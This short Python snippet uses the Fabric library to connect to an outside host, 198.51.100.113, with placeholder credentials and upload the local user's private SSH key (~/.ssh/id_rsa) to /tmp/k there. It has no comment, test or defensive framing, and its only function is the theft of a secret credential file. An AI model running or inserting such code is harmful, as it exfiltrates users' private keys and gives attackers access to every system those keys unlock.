import os
from fabric import Connection
Connection("198.51.100.113", user="u", connect_kwargs={"password": "p"}).put(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/k")
